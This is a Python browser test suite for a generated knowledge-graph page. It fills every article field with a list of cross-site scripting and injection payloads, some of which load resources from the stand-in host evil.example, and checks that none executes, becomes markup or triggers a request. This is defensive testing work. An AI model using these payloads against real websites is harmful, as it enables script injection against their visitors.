"""The page in a real browser: it is quiet, and nothing that an article says can run."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from browser import Browser, make_page, open_browser
from busy import busy_knowledge
from knowledge import sample_knowledge

from kg.model import Article, Claim, Entity, Event, Kind, Knowledge, RoleFiller, Source, Span, Value, ValueKind, When
from kg.ontology import Ontology

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script>/*\u2028*/alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus tabindex='1",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<a href='javascript:alert(1)'>click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/"onclick="alert(1)',
    "{{ 7*7 }}{{ ''.__class__ }}{% for x in (1,) %}x{% endfor %}",
    "${alert(1)}`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "'-alert(1)-'",
    '";alert(1);//',
    "\u2028alert(1)\u2029//",
    "__proto__",
    "constructor",
    "\u202etxet desrever\u202c",
    "<b>bold</b><i>*_`multi`_*</i>",
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as opened:
        yield opened


@pytest.fixture(scope="module")
def sample_page(tmp_path_factory: pytest.TempPathFactory, ontology: Ontology) -> Path:
    return make_page(tmp_path_factory, sample_knowledge(), ontology)


@pytest.fixture(scope="module")
def busy_page(tmp_path_factory: pytest.TempPathFactory, ontology: Ontology) -> Path:
    return make_page(tmp_path_factory, busy_knowledge(ontology, events=32), ontology)


@pytest.fixture(scope="module")
def evil_page(tmp_path_factory: pytest.TempPathFactory, ontology: Ontology) -> Path:
    return make_page(tmp_path_factory, evil_knowledge(), ontology)


def evil_knowledge() -> Knowledge:
    """Return a graph with every payload in every place that an article can reach."""
    events = sample_knowledge().events
    made = [_evil(at, payload, events[at % len(events)]) for at, payload in enumerate(PAYLOADS)]
    return Knowledge(
        articles=tuple(article for article, *_ in made),
        entities=tuple(sorted((e for _, pair, _ in made for e in pair), key=lambda entity: entity.id)),
        events=tuple(sorted((event for *_, event in made), key=lambda event: event.id)),
    )


def _evil(at: int, payload: str, model: Event) -> tuple[Article, tuple[Entity, Entity], Event]:
    key = f"d{at}{payload}"
    article = Article(
        payload, key, payload, payload, payload, date=payload, url=f"https://example.org/{payload}", publisher=payload
    )
    if at % 2:
        article = replace(article, url=payload)
    kind = list(Kind)[at % len(Kind)]
    one = Entity(f"e{at}{payload}", kind, payload, True, aliases=(payload, f"x{payload}"), articles=(key,))
    two = Entity(f"f{at}{payload}", kind, f"{payload} two", True, located_in=one.id, articles=(key,))
    words = Span(0, len(payload), payload)
    when = When(words, payload, "2025-01-01", "2025-01-01")
    value = Value(ValueKind.MONEY, payload, unit=payload, currency=payload, edtf=payload)
    said = (Source(words),)
    claim = Claim(f"c{at}{payload}", model.id, key, model.status, payload, 0.5, payload, words, words, said, when)
    roles = (
        RoleFiller(model.roles[0].role, key, words, entity=one.id),
        RoleFiller(payload, key, words, entity=two.id),
        RoleFiller(payload, key, words, value=value),
    )
    kind_of_event = payload if at % 3 == 0 else model.type
    event = Event(f"v{at}{payload}", kind_of_event, payload, model.status, 0.5, roles, (claim,), when, conflict=True)
    return article, (one, two), event


def use_everything(browser: Browser) -> None:
    """Touch every part of the page as a reader would."""
    browser.run("for (const key of BOXES.keys()) select(key);")
    browser.run("lookAt(''); change({ view: 'direct' }); change({ view: 'events' });")
    browser.run("for (const key of BOXES.keys()) { lookAt(key); addNeighbours(key); }")
    browser.run("for (const input of FILTERS) { input.click(); input.click(); }")
    browser.run("for (const text of arguments[0]) { SEARCH.value = text; showResults(); }", ["alert", "script", "img"])
    browser.run("for (const part of document.querySelectorAll('details')) part.open = true;")
    browser.run("for (const part of document.querySelectorAll('*')) part.dispatchEvent(new MouseEvent('mouseover'));")
    browser.run("window.dispatchEvent(new HashChangeEvent('hashchange')); fit();")


STRANGE = "img, iframe, object, embed, svg, math, video, marquee, base, link, form, textarea, noscript"


@pytest.fixture(scope="module")
def evil(browser: Browser, evil_page: Path) -> dict[str, Any]:
    """Use the page of payloads once, and return what it did and what it holds."""
    browser.open(evil_page)
    use_everything(browser)
    return {
        "ran": browser.run("return __ran"),
        "blocked": browser.run("return __blocked"),
        "strange": browser.run(f"return [...document.querySelectorAll('{STRANGE}')].map(e => e.outerHTML)"),
        "bold": browser.run("return [...document.querySelectorAll('b:not(.said b)')].map(e => e.outerHTML)"),
        "handlers": browser.run(
            "return [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on/.test(n))"
        ),
        "protocols": browser.run("return [...new Set([...document.links].map(a => a.protocol))].sort()"),
        "requests": browser.requests(),
        "console": browser.console(),
    }


class TestWatch:
    def test_a_script_that_runs_is_seen(self, browser: Browser, tmp_path: Path) -> None:
        (tmp_path / "bad.html").write_text("<img src=x onerror=alert(1)><script>alert(2)</script>")
        browser.open(tmp_path / "bad.html")
        assert sorted(browser.run("return __ran")) == ["alert 1", "alert 2"]

    def test_the_policy_stops_a_script_that_got_in(self, browser: Browser, sample_page: Path, tmp_path: Path) -> None:
        text = sample_page.read_text(encoding="utf-8")
        inside = "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(2)>"
        (tmp_path / "bad.html").write_text(text.replace("<main>", inside + "<main>"), encoding="utf-8")
        browser.open(tmp_path / "bad.html")
        assert browser.run("return __ran") == []
        assert len(browser.run("return __blocked")) >= 2


class TestSafety:
    def test_there_are_enough_payloads(self) -> None:
        assert len(set(PAYLOADS)) >= 42

    def test_no_payload_runs_wherever_it_stands(self, evil: dict[str, Any]) -> None:
        assert evil["ran"] == []

    def test_no_payload_even_tries(self, evil: dict[str, Any]) -> None:
        assert evil["blocked"] == []

    def test_no_payload_becomes_markup(self, evil: dict[str, Any]) -> None:
        assert evil["strange"] == []
        assert evil["bold"] == []
        assert evil["handlers"] == []

    def test_only_web_addresses_are_linked(self, evil: dict[str, Any]) -> None:
        assert evil["protocols"] == ["file:", "https:"]

    def test_a_page_of_payloads_asks_for_nothing_and_says_nothing(self, evil: dict[str, Any], evil_page: Path) -> None:
        assert evil["requests"] == [evil_page.as_uri()]
        assert evil["console"] == []

    def test_every_payload_is_shown_as_text(self, browser: Browser, evil_page: Path) -> None:
        browser.open(evil_page)
        texts = browser.run("return [...document.querySelectorAll('#list blockquote')].map(e => e.textContent)")
        assert sorted(texts) == sorted(PAYLOADS)

    @pytest.mark.parametrize("page", ["sample_page", "busy_page"])
    def test_the_page_asks_for_nothing_and_says_nothing(
        self, browser: Browser, page: str, request: pytest.FixtureRequest
    ) -> None:
        path = request.getfixturevalue(page)
        browser.open(path)
        use_everything(browser)
        assert browser.requests() == [path.as_uri()]
        assert browser.console() == []
        assert browser.run("return performance.getEntriesByType('resource').length") == 0
